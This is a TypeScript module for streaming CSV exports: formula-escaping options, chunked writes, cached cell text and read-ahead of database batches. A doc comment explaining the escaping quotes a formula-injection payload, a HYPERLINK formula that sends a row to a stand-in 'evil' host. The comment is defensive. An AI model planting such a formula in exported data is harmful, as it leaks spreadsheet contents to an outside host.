import { Transform } from "node:stream";
import type { Options } from "csv-stringify";
import { stringify as stringifySync } from "csv-stringify/sync";

/**
 * The options every CSV the server writes starts from. A cell a user wrote (a key or project name, an
 * actor's name) that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a live formula in
 * the spreadsheet the owner opens the export in (`=HYPERLINK("http://evil/?"&A2,"x")` sends the row
 * away on a click): csv-stringify's `escape_formulas` prefixes such cells with a `'`, which spreadsheets
 * read as "text".
 */
export const SAFE_CSV_OPTIONS = { escape_formulas: true } as const satisfies Options;

/** How much of a CSV is gathered before it goes on to the compressor and the socket. */
export const CSV_CHUNK_BYTES = 64 * 1024;

/**
 * Gathers a stream's small writes (csv-stringify's stream emits each row on its own, ~150 bytes) into
 * chunks of at least `CSV_CHUNK_BYTES`, so the compressor and the socket see a few large writes instead
 * of one per row: issue 35 measured a month of 446k calls with brotli at 27.4 s row by row and 5.6-5.8 s
 * in 64 KiB chunks, byte for byte the same. At most one chunk is held; the last, shorter one goes out at
 * the end.
 */
export function chunkedWrites(chunkBytes = CSV_CHUNK_BYTES): Transform {
  let pending: Buffer[] = [];
  let pendingBytes = 0;
  return new Transform({
    transform(chunk: Buffer | string, _encoding, done) {
      const bytes = typeof chunk === "string" ? Buffer.from(chunk, "utf8") : chunk;
      pending.push(bytes);
      pendingBytes += bytes.length;
      if (pendingBytes >= chunkBytes) {
        this.push(Buffer.concat(pending, pendingBytes));
        pending = [];
        pendingBytes = 0;
      }
      done();
    },
    flush(done) {
      if (pendingBytes > 0) this.push(Buffer.concat(pending, pendingBytes));
      pending = [];
      pendingBytes = 0;
      done();
    },
  });
}

/**
 * Cells csv-stringify writes as they are under {@link SAFE_CSV_OPTIONS}: an ASCII letter or digit first
 * (no formula) and nothing it would quote after it (no delimiter, quote or line break). Times, ids,
 * counts and amounts are such cells.
 */
const PLAIN_CELL = /^[0-9A-Za-z][0-9A-Za-z.:_-]*$/;

/** How many distinct other cells a writer remembers before it starts over (a bound on its memory). */
const REMEMBERED_CELLS = 10_000;

/**
 * The text csv-stringify writes for one cell within a record under {@link SAFE_CSV_OPTIONS}, for a
 * fraction of its cost: a plain cell (see `PLAIN_CELL`) is its own text, any other is the library's text
 * of that cell, remembered, since an export repeats a few names (projects, keys, features) on every row.
 * csv-stringify decides quoting and formula escaping cell by cell, so a record is its cells' texts joined
 * by `,` and ended by `\n`; `csv.test.ts` compares the two byte for byte. Its sync form spent most of
 * the calls export's CPU time on options and checks for cells that need none (issue 35).
 */
export function csvCellWriter(): (value: string) => string {
  const remembered = new Map<string, string>();
  return (value) => {
    if (PLAIN_CELL.test(value)) return value;
    let text = remembered.get(value);
    if (text === undefined) {
      // Beside a second cell, so the library's text is that of a cell within a record ("x" needs no quoting).
      text = stringifySync([[value, "x"]], SAFE_CSV_OPTIONS).slice(0, -",x\n".length);
      if (remembered.size >= REMEMBERED_CELLS) remembered.clear();
      remembered.set(value, text);
    }
    return text;
  };
}

/**
 * The items of `source`, asking it for the next one as soon as one is handed out: the next keyset batch
 * is read from the database while the consumer turns the current one into CSV and compresses it, so the
 * two overlap instead of taking turns. At most one item is held beyond the consumer's. When the consumer
 * stops early, the item being read is awaited and dropped and the source is closed.
 */
export async function* readAhead<T>(source: AsyncIterable<T>): AsyncGenerator<T> {
  const iterator = source[Symbol.asyncIterator]();
  let next = iterator.next();
  try {
    for (;;) {
      const current = await next;
      if (current.done) return;
      next = iterator.next();
      // Awaited in the next round; until then (or if the consumer leaves first) its failure is not unhandled.
      next.catch(() => undefined);
      yield current.value;
    }
  } finally {
    await next.catch(() => undefined);
    await iterator.return?.();
  }
}
